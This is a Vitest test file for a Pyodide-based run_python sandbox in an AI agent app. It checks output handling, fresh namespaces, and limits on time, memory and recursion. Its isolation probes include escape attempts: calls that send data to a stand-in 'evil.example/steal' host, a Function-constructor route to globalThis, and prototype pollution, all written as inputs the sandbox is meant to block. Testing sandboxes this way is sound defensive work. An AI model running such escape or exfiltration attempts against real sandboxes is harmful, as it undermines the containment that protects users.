/**
 * run_python as the app runs it: Pyodide in a dedicated worker, its files served by our own
 * build. The JavaScript sandbox's escape probes in Python's words (network, the page, packages),
 * the limits (time, memory, recursion), each with its own failure kind, and a run after a breach.
 * Loading Pyodide takes seconds (tens on a loaded machine): the probes share one warm worker, and
 * the two limits that terminate it come last.
 */
import { afterAll, describe, expect, it } from 'vitest';
import type { AgentEvent } from '../../../src/core/agent/events';
import { runAgent } from '../../../src/core/agent/run-agent';
import { createToolExecutor, registerBuiltins, ToolRegistry } from '../../../src/tools';
import { createScriptedEngine, textChunks, toolCallChunks } from '../../support/scripted-engine';
import { NO_PACKAGES_MESSAGE } from '../../../src/tools/sandbox/python/load-pyodide';
import { createPythonWorkerSandbox } from '../../../src/tools/sandbox/python/default-python';
import type { SandboxFailureKind, SandboxOutcome } from '../../../src/tools/sandbox/types';

const sandbox = createPythonWorkerSandbox();
afterAll(() => sandbox.dispose());

const LOAD = { timeout: 180_000 };

function failureOf(outcome: SandboxOutcome) {
  if (outcome.ok) throw new Error(`expected a failure, got ${JSON.stringify(outcome.value)} (stdout ${JSON.stringify(outcome.stdout)})`);
  return outcome.error;
}

interface PythonProbe {
  name: string;
  code: string;
  expect: { ok: false; kind: SandboxFailureKind; name: string; message: string | RegExp } | { ok: true; value: string };
}

/** Globals of a worker that reach the network, storage or other contexts (and of the page, which a worker lacks anyway). */
const WORKER_NAMES = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'indexedDB', 'caches', 'BroadcastChannel', 'Worker', 'navigator', 'document', 'localStorage'];

/** `import js` reaches an empty module: none of the worker's (or page's) globals are there. */
function notInJs(name: string): PythonProbe {
  return { name: `js.${name}`, code: `import js\njs.${name}`, expect: { ok: false, kind: 'thrown', name: 'AttributeError', message: name } };
}

const PROBES: readonly PythonProbe[] = [
  ...['fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts', 'document', 'window', 'parent', 'self', 'indexedDB', 'localStorage', 'caches', 'postMessage', 'navigator'].map(
    (name) => notInJs(name),
  ),
  { name: 'from js import fetch', code: 'from js import fetch', expect: { ok: false, kind: 'thrown', name: 'ImportError', message: /cannot import name 'fetch'/ } },
  {
    name: 'pyodide.http.open_url (synchronous XMLHttpRequest)',
    code: 'from pyodide.http import open_url\nopen_url("https://evil.example/steal")',
    expect: { ok: false, kind: 'thrown', name: 'NameError', message: "name 'XMLHttpRequest' is not defined" },
  },
  {
    // A coroutine runs up to its first await when stepped: pyfetch reaches for its JavaScript names at once
    // (pyodide.http imported them from `js` inside a try, so they are simply missing).
    name: 'pyodide.http.pyfetch',
    code: 'from pyodide.http import pyfetch\npyfetch("https://evil.example/steal").send(None)',
    expect: { ok: false, kind: 'thrown', name: 'NameError', message: /^name '(AbortController|Object|Request|_jsfetch)' is not defined$/ },
  },
  {
    name: 'pyodide.code.run_js (JavaScript eval in the worker)',
    code: 'from pyodide.code import run_js\nrun_js("fetch(\'https://evil.example/steal\')")',
    expect: { ok: false, kind: 'thrown', name: 'ImportError', message: /cannot import name 'eval'/ },
  },
  {
    // Any JavaScript object reaches Function, and Function the worker's global: the worker's own
    // escape globals are gone too, which is the barrier this probe measures.
    name: "Function('return globalThis')() through a JavaScript object",
    code: `import pyodide_js\npyodide_js.constructor.constructor("return [${WORKER_NAMES.map((name) => `typeof ${name}`).join(', ')}].join()")()`,
    expect: { ok: true, value: `'${WORKER_NAMES.map(() => 'undefined').join(',')}'` },
  },
  {
    name: 'micropip',
    code: 'import micropip',
    expect: { ok: false, kind: 'thrown', name: 'ModuleNotFoundError', message: /^No module named 'micropip'.*Only the Python standard library is available in run_python/ },
  },
  {
    name: 'a package beyond the standard library',
    code: 'import numpy',
    expect: { ok: false, kind: 'thrown', name: 'ModuleNotFoundError', message: /^No module named 'numpy'.*packages cannot be downloaded or installed/ },
  },
  {
    name: 'pyodide_js.loadPackage',
    code: 'import pyodide_js\npyodide_js.loadPackage("numpy")',
    expect: { ok: false, kind: 'thrown', name: 'JsException', message: new RegExp(NO_PACKAGES_MESSAGE.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')) },
  },
  { name: 'input()', code: 'input()', expect: { ok: false, kind: 'thrown', name: 'EOFError', message: /EOF/ } },
];

describe('python sandbox: output, values, errors (Chromium)', () => {
  it('prints 6*7 as stdout "42"', LOAD, async () => {
    expect(await sandbox.run({ code: 'print(6*7)' })).toMatchObject({ ok: true, stdout: '42\n', stderr: '' });
  });

  it('gives the repr of the last expression as the value, and stderr apart', LOAD, async () => {
    const outcome = await sandbox.run({ code: 'import sys\nprint("warned", file=sys.stderr)\nfrom collections import Counter\nCounter("abracadabra").most_common(2)' });
    expect(outcome).toMatchObject({ ok: true, value: "[('a', 5), ('b', 2)]", stdout: '', stderr: 'warned\n' });
  });

  it('reports a syntax error as such, with its line', LOAD, async () => {
    const outcome = await sandbox.run({ code: 'x = 1\ndef broken(:\n  pass' });
    expect(failureOf(outcome)).toMatchObject({ kind: 'syntax', name: 'SyntaxError', line: 2 });
  });

  it('reports an exception with its type, line and the output before it', LOAD, async () => {
    const outcome = await sandbox.run({ code: 'print("step 1")\n1 / 0' });
    expect(outcome.stdout).toBe('step 1\n');
    expect(failureOf(outcome)).toMatchObject({ kind: 'thrown', name: 'ZeroDivisionError', message: 'division by zero', line: 2 });
  });

  it('gives every run a fresh namespace: a later run does not see an earlier run’s globals', LOAD, async () => {
    expect(await sandbox.run({ code: 'secret = "from run 1"\nsecret' })).toMatchObject({ ok: true, value: "'from run 1'" });
    expect(failureOf(await sandbox.run({ code: 'secret' }))).toMatchObject({ kind: 'thrown', name: 'NameError' });
    expect(await sandbox.run({ code: '__name__' })).toMatchObject({ ok: true, value: "'__main__'" });
  });
});

describe('python sandbox isolation (Chromium)', () => {
  it.each(PROBES.map((probe) => [probe.name, probe] as const))('blocks %s', LOAD, async (_name, probe) => {
    const outcome = await sandbox.run({ code: probe.code });
    if (probe.expect.ok) {
      expect(outcome).toMatchObject({ ok: true, value: probe.expect.value });
      return;
    }
    const failure = failureOf(outcome);
    expect(failure.kind).toBe(probe.expect.kind);
    expect(failure.name).toBe(probe.expect.name);
    if (typeof probe.expect.message === 'string') expect(failure.message).toBe(probe.expect.message);
    else expect(failure.message).toMatch(probe.expect.message);
  });

  it('cannot change the page: its storage and prototypes are untouched', LOAD, async () => {
    localStorage.setItem('tabagent-python-canary', 'kept');
    const outcome = await sandbox.run({ code: 'import pyodide_js\npyodide_js.constructor.constructor("Object.prototype.polluted = 1; return typeof localStorage")()' });
    expect(outcome).toMatchObject({ ok: true, value: "'undefined'" });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(localStorage.getItem('tabagent-python-canary')).toBe('kept');
    localStorage.removeItem('tabagent-python-canary');
  });
});

describe('run_python in the agent loop (Chromium)', () => {
  it('a scripted model calls run_python; the printed result comes back to it without an approval', LOAD, async () => {
    const registry = new ToolRegistry();
    registerBuiltins(registry, { pythonSandbox: () => sandbox });
    const engine = createScriptedEngine([
      toolCallChunks([{ id: 'p1', name: 'run_python', arguments: { code: 'import math\nprint(math.factorial(20))\nsum(range(10))' } }]),
      textChunks('20! is 2432902008176640000.'),
    ]);
    const asked: string[] = [];
    const events: AgentEvent[] = [];
    const run = runAgent({
      engine,
      tools: createToolExecutor(registry),
      approve: async (call) => {
        asked.push(call.name);
        return 'deny';
      },
      messages: [{ role: 'user', content: 'What is 20 factorial?' }],
    });
    for await (const event of run) events.push(event);
    expect(asked).toEqual([]);
    const result = events.find((event) => event.type === 'tool-result');
    expect(result?.type === 'tool-result' && JSON.parse(result.result.content)).toEqual({ result: '45', stdout: '2432902008176640000\n' });
    // The model's second request carries the tool result.
    expect(JSON.stringify(engine.requests[1]?.messages)).toContain('2432902008176640000');
    expect(events.at(-1)?.type).toBe('finish');
  });
});

describe('python sandbox limits (Chromium)', () => {
  it('stops deep recursion at the stack limit, and keeps the worker', LOAD, async () => {
    const outcome = await sandbox.run({ code: 'def down(n):\n    return down(n + 1) + 1\ndown(0)' });
    expect(failureOf(outcome)).toMatchObject({ kind: 'stack-limit', name: 'RecursionError' });
    expect(sandbox.liveWorkers()).toBe(1);
    expect(await sandbox.run({ code: '"still here"' })).toMatchObject({ ok: true, value: "'still here'" });
  });

  it('stops an infinite loop at the time limit by terminating the worker; the next run works', LOAD, async () => {
    let ticks = 0;
    const interval = setInterval(() => {
      ticks += 1;
    }, 20);
    const started = performance.now();
    const outcome = await sandbox.run({ code: 'while True:\n    pass', limits: { cpuTimeMs: 1000 } });
    clearInterval(interval);
    expect(failureOf(outcome).kind).toBe('time-limit');
    expect(performance.now() - started).toBeLessThan(1_500);
    // The loop ran on the worker's thread: the page's own timers kept firing meanwhile.
    expect(ticks).toBeGreaterThan(5);
    expect(sandbox.liveWorkers()).toBe(0);
  });

  it('runs again after a limit breach, in a fresh interpreter', LOAD, async () => {
    expect(await sandbox.run({ code: 'print(6*7)' })).toMatchObject({ ok: true, stdout: '42\n' });
    expect(sandbox.liveWorkers()).toBe(1);
  });

  it('stops a huge allocation at the memory limit and terminates the worker', LOAD, async () => {
    const outcome = await sandbox.run({ code: 'keep = bytearray(100 * 1024 * 1024)\nlen(keep)', limits: { memoryBytes: 64 * 1024 * 1024 } });
    expect(failureOf(outcome)).toMatchObject({ kind: 'memory-limit', message: expect.stringMatching(/^the interpreter grew by \d+ MB$/) as unknown });
    expect(sandbox.liveWorkers()).toBe(0);
  });
});
